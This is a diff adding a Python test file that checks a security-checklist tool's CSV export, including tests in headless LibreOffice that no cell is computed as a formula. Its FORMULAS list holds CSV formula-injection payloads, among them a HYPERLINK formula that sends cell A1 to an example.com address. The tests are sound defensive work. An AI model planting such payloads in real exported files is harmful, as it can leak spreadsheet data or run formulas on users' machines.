@@ -1,0 +1,192 @@
+"""The table as programs and spreadsheets take it: a row for each finding, and no cell that anybody computes."""
+
+import csv
+import io
+import re
+import shutil
+import subprocess
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from secure_checklist import Attestation, Checklist, Device, Inventory, Item, Rule, Waiver, evaluate, formats, packs
+from secure_checklist.core.text import unguarded
+from secure_checklist.formats.csv import COLUMNS
+from tests.golden_personas import NOW, inventory_of, names
+from tests.planting import HARMLESS, HARMLESS_WORLD
+
+PACK = packs.load("leak-prevention")
+FORMULAS = (
+    '=HYPERLINK("http://example.com/?"&A1,"click")',
+    "+1230+4",
+    "-1230+4",
+    "@SUM(1230+4)",
+    "\t=1230+4",
+    " =1230+4",
+    "\uff1d1230+4",
+    "\n=1230+4",
+    "'=1230+4",
+    "x;=1230+4;y",
+    "x\n=1230+4",
+    'x",=1230+4,"y',
+    'x";=1230+4;"y',
+)
+
+
+def rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
+
+
+def table_of(*titles: str) -> bytes:
+    """A table with these titles, and with each as a label and as what a waiver says."""
+    items = [Item(id=f"i{place}", title=title, question="Done?") for place, title in enumerate(titles)]
+    waivers = tuple(Waiver(item=item.id, who=item.title, why=item.title) for item in items)
+    checklist = Checklist.of("c", "C", *items)
+    report = evaluate(checklist, Inventory(waivers=waivers), now=NOW)
+    return formats.write(report, "csv", checklist=checklist)
+
+
+@pytest.mark.parametrize("persona", names())
+def test_there_is_a_row_for_each_finding_that_may_be_shown(persona: str) -> None:
+    inventory = inventory_of(persona)
+    report = evaluate(PACK, inventory, now=NOW, evidence=True)
+    found = rows(formats.write(report, "csv", checklist=PACK, inventory=inventory))
+    told = [(row["item"], row["subject"] or None, row["outcome"], row["disposition"] or None) for row in found]
+    findings = formats.document_of(report).findings
+    assert sorted(told, key=str) == sorted(((f.item, f.subject, f.outcome, f.disposition) for f in findings), key=str)
+    for row in found:
+        item = PACK.item(row["item"])
+        assert (row["checklist"], row["title"], row["level"]) == (PACK.id, item.title, item.level)
+        assert (row["kind"], row["effort"], row["causes"]) == (item.kind, item.effort, "|".join(item.mitigates))
+        assert float(row["weight"]) == item.points
+
+
+def test_cells_say_what_a_finding_says() -> None:
+    checklist = Checklist.of(
+        "c",
+        "C",
+        Item(
+            id="one",
+            title="One",
+            rule=Rule(check=Device.screen_lock.at_least("pin") & Device.find_my.is_true()),
+            level="advanced",
+            weight=1.5,
+            mitigates=("hacking", "malware"),
+        ),
+        Item(id="two", title="Two", question="Done?", effort="hour"),
+    )
+    waiver = Waiver(item="two", who="Kim", why="Later.", until=NOW + timedelta(days=1))
+    inventory = Inventory(
+        subjects=(Device(id="phone", label="My phone"),),
+        attestations=(Attestation(item="two", answer="no"),),
+        waivers=(waiver,),
+        as_of=NOW,
+        complete=frozenset({"device"}),
+    )
+    report = evaluate(checklist, inventory, now=NOW, evidence=True)
+    first, second = rows(formats.write(report, "csv", checklist=checklist, inventory=inventory))
+    assert first == {
+        **dict.fromkeys(COLUMNS, ""),
+        "checklist": "c",
+        "version": "0",
+        "evaluated_at": "2026-11-24T12:00:00Z",
+        "section": "items",
+        "section_title": "C",
+        "item": "one",
+        "title": "One",
+        "level": "advanced",
+        "weight": "1.5",
+        "effort": "minutes",
+        "causes": "hacking|malware",
+        "kind": "device",
+        "subject": "phone",
+        "subject_name": "My phone",
+        "outcome": "unknown",
+        "possible": "pass|fail",
+        "reasons": "not_asked",
+        "missing_facts": "device.screen_lock|device.find_my",
+        "display": "show",
+        "ground": first["ground"],
+    }
+    assert (second["outcome"], second["disposition"], second["effort"]) == ("fail", "waived", "hour")
+    told = (second["waiver_who"], second["waiver_why"], second["waiver_until"])
+    assert told == ("Kim", "Later.", "2026-11-25T12:00:00Z")
+    assert second["ground"] == 'the answer is "No" (stated on 2026-11-24)'
+
+
+def test_the_file_is_as_the_standard_has_it() -> None:
+    """RFC 4180, with a mark by which spreadsheets know UTF-8; one line a row, since every text is on one line."""
+    data = table_of('say "x", and\r\ngo', "ünï")
+    assert data.startswith(b'\xef\xbb\xbf"checklist","version",')
+    assert data.endswith(b'"\r\n')
+    assert data.count(b"\r\n") == data.count(b"\n") == 3
+    assert b'"say ""x"", and go"' in data
+    assert csv.Sniffer().sniff(data.decode("utf-8-sig"), delimiters=",;\t").delimiter == ","
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_no_cell_begins_as_a_formula_and_every_title_comes_back(title: str) -> None:
+    (row,) = rows(table_of(title))
+    for column in ("title", "waiver_who", "waiver_why"):
+        assert not row[column].lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
+        assert unguarded(row[column]) == title.replace("\n", " ")
+
+
+# a real spreadsheet --------------------------------------------------------------------------------------------------
+
+
+def opened(data: bytes, folder: Path, separator: str = ",", quote: str = "34") -> list[list[str]]:
+    """Open a table in LibreOffice, which computes whatever it takes for a formula, and give what it shows."""
+    office = shutil.which("soffice")
+    if office is None:
+        pytest.skip("LibreOffice isn't installed: apt-get install --no-install-recommends libreoffice-calc-nogui")
+    source = folder / "table.csv"
+    source.write_bytes(data)
+    options = f"CSV:{ord(separator)},{quote},76,1,,0,false,true,false,false,false,-1,true"
+    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
+    shown = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false"
+    words = [
+        office,
+        profile,
+        "--headless",
+        f"--infilter={options}",
+        "--convert-to",
+        shown,
+        "--outdir",
+        str(folder / "o"),
+    ]
+    subprocess.run([*words, str(source)], check=True, capture_output=True, timeout=180)
+    return list(csv.reader(io.StringIO((folder / "o" / "table.csv").read_text("utf-8-sig"), newline="")))
+
+
+@pytest.mark.slow  # LibreOffice starts
+def test_a_spreadsheet_shows_every_cell_as_it_is(tmp_path: Path) -> None:
+    data = HARMLESS_WORLD.write("csv")
+    found = opened(data, tmp_path)
+    expected = [[*COLUMNS], *([*row.values()] for row in rows(data))]
+    assert found == expected
+    assert HARMLESS.tokens["lock.title"] in found[1]
+
+
+@pytest.mark.slow  # LibreOffice starts for each
+@pytest.mark.parametrize(("separator", "quote"), [(",", "34"), (";", "34"), (";", ""), ("\t", "")])
+def test_a_spreadsheet_computes_nothing(tmp_path: Path, separator: str, quote: str) -> None:
+    """Whether it splits at commas, as the table is meant, or at other signs, and even if it knows no quotes."""
+    rows_seen = opened(table_of(*FORMULAS), tmp_path, separator, quote)
+    cells = [cell for row in rows_seen for cell in row]
+    assert [cell for cell in cells if cell.strip("\"' ") in ("1234", "click")] == []
+    assert not any(re.search(r"#(NAME|REF|VALUE)|Err:", cell) for cell in cells)
+    assert len(rows_seen) == len(FORMULAS) + 1
+
+
+@pytest.mark.slow  # LibreOffice starts for each
+@pytest.mark.parametrize(
+    ("text", "separator", "quote"), [('"=1230+4"\r\n', ",", "34"), ('"a","x;=1230+4;y"\r\n', ";", "")]
+)
+def test_the_spreadsheet_would_compute_what_is_not_guarded(
+    tmp_path: Path, text: str, separator: str, quote: str
+) -> None:
+    """Else the test above would show nothing."""
+    cells = [cell for row in opened(text.encode("utf-8-sig"), tmp_path, separator, quote) for cell in row]
+    assert "1234" in cells
